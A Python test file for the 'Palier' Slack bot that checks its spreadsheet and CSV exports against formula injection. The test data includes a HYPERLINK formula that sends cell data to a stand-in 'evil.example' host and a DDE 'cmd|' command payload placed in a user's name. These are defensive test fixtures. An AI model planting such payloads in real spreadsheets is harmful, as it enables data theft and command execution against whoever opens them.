"""Every file Palier writes for a spreadsheet, read back as one would: no formula, one row
per record.

Alice is named like a formula and logs evidence full of line breaks, quotes and a
``=HYPERLINK(…)``; Chloé, her manager, exports from Slack (an Excel workbook: every
cell a string, never a formula); an operator exports from the command line (CSV with a
BOM and, in French, ``;``); a manager of a large team gets the team CSV. Python's
``csv`` reader must find exactly one row per rating (or per report × competency)
and no CSV cell may start with a character a spreadsheet evaluates.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.domain.csv_safe import BOM, csv_text, data_rows, safe_cell
from bot.domain.text import clean_text
from handlers.cli import main
from referentiels.loader import ReferentielCatalog
from storage.models import Person, Rating, Role
from tests.slack.conftest import ALICE, CHLOE, World
from tests.spreadsheets import csv_rows, export_records, xlsx_cells, xlsx_rows

THURSDAY_1600_PARIS = datetime(2026, 11, 26, 15, 0, tzinfo=UTC)
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2, "Alice")'
EVIL_EVIDENCE = '@SUM(1+1)\r=HYPERLINK("https://evil.example/?"&B2, "ici")\nligne "deux"\r\n-2+3'
CR_ONLY = "Deal signé\r=1+1"  # a lone carriage return: no line feed to make it quoted
DANGEROUS = tuple("=+-@\t\r")
_AE = ReferentielCatalog.load(None).get("account-executive")
assert _AE is not None
COMPETENCIES = [c.id for c in _AE.all_competencies()]


def _rows(content: bytes | str | None) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content or ""
    assert text.startswith(BOM)  # so that Excel reads it as UTF-8
    return csv_rows(text, ";")  # French: Excel in France splits on semicolons


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or cell.lstrip("+-").isdigit(), cell


def _ratings(world: World) -> int:
    with world.session() as session:
        return int(session.scalar(select(func.count()).select_from(Rating)) or 0)


def _alice_checks_in_with_evil_evidence(world: World) -> None:
    world.emulator.update_user(ALICE, real_name=FORMULA_NAME, name=FORMULA_NAME)
    alice = world.enrol(ALICE)
    chloe = world.enrol(CHLOE, role=Role.MANAGER)
    with world.session() as session, session.begin():
        person = session.get(Person, alice)
        assert person is not None
        person.manager_id = chloe
    world.at(THURSDAY_1600_PARIS)
    world.tick()
    prompt = world.driver.latest_dm(ALICE)
    assert prompt is not None
    world.driver.click(ALICE, prompt, action_id="checkin_start")
    modal = world.emulator.wait_for(lambda: world.driver.modal(ALICE))
    values = {f"level:{competency}": "Junior" for competency in COMPETENCIES}
    values[f"evidence:{COMPETENCIES[0]}"] = EVIL_EVIDENCE
    values[f"evidence:{COMPETENCIES[1]}"] = CR_ONLY
    assert world.driver.submit_view(ALICE, modal, values).outcome == "close"
    world.emulator.wait_for(lambda: len(world.dms(ALICE)) >= 2 or None)
    assert _ratings(world) == len(COMPETENCIES)


def test_slack_export_has_one_row_per_rating_and_no_formula(world: World) -> None:
    _alice_checks_in_with_evil_evidence(world)
    world.driver.slash_command(CHLOE, "/palier", "export")
    [file] = world.emulator.wait_for(lambda: world.emulator.files or None)
    assert file.content is not None and b"<f>" not in file.content  # no formula element
    cells = xlsx_cells(file.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    records = export_records(xlsx_rows(file.content), "fr", "Asia/Kolkata")
    assert len(records) == _ratings(world)
    # Text cells, as typed: a workbook shows a string as a string, no quote needed.
    assert {r["person"] for r in records} == {FORMULA_NAME}
    assert {c.data_type for c in cells if c.value == FORMULA_NAME} == {"s"}
    evidence = [r["evidence"] for r in records if r["evidence"]]
    # Whole, line breaks included (stored as newlines: bot/text.py).
    assert sorted(evidence) == sorted([clean_text(EVIL_EVIDENCE), clean_text(CR_ONLY)])


def test_command_line_export_has_one_row_per_rating_and_no_formula(
    world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _alice_checks_in_with_evil_evidence(world)
    monkeypatch.setenv("DATABASE_URL", world.engine.url.render_as_string(hide_password=False))
    out, err = io.StringIO(), io.StringIO()
    assert main(["export", "--format", "csv"], out=out, err=err) == 0
    rows = _rows(out.getvalue())
    assert len(rows) - 1 == _ratings(world)
    _no_formula(rows)
    target = str(tmp_path / "export.csv")
    assert main(["export", "--output", target], out=out, err=err) == 0
    with open(target, encoding="utf-8-sig", newline="") as written:
        assert len(list(csv.reader(written, delimiter=";"))) - 1 == _ratings(world)
    assert err.getvalue().endswith(f" : {_ratings(world)} lignes écrites\n")
    book = str(tmp_path / "export.xlsx")
    assert main(["export", "--format", "xlsx", "--output", book], out=out, err=err) == 0
    with open(book, "rb") as written:
        content = written.read()
    assert len(xlsx_rows(content)) - 1 == _ratings(world) and b"<f>" not in content


def test_team_csv_of_a_large_team_has_no_formula(world: World) -> None:
    from tests.slack.test_team import MANON, _large_team, _team

    names = [FORMULA_NAME, "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "+33 6 12 34 56 78", "\tTab"]
    ids, users = _large_team(world, 60)
    with world.session() as session, session.begin():
        for user, name in zip(users, names, strict=False):
            person = session.get(Person, ids[user])
            assert person is not None
            person.display_name = name
    _team(world)
    files = world.emulator.wait_for(lambda: (f := world.emulator.files) and len(f) == 2 and f)
    [table] = [file for file in files if file.name.endswith(".csv")]
    rows = _rows(table.content)
    assert len(rows) - 1 == 60 * len(COMPETENCIES)
    _no_formula(rows)
    assert {row[0] for row in rows[1:]} >= {"'" + name for name in names}
    assert MANON not in {row[0] for row in rows}


def test_the_rule_itself() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-1") == "-1" and safe_cell("+2") == "+2" and safe_cell("-0.5") == "-0.5"
    assert safe_cell("-1+2") == "'-1+2" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("＝1+1") == "'＝1+1" and safe_cell(None) == "" and safe_cell(3) == "3"
    assert safe_cell("Alice = Bob") == "Alice = Bob"
    text = csv_text(["a", "b"], [["x\ry", "=1"], ["z", 'w"\n']])
    assert csv_rows(text, ",") == [["a", "b"], ["x\ry", "'=1"], ["z", 'w"\n']]
    assert data_rows(text) == 2
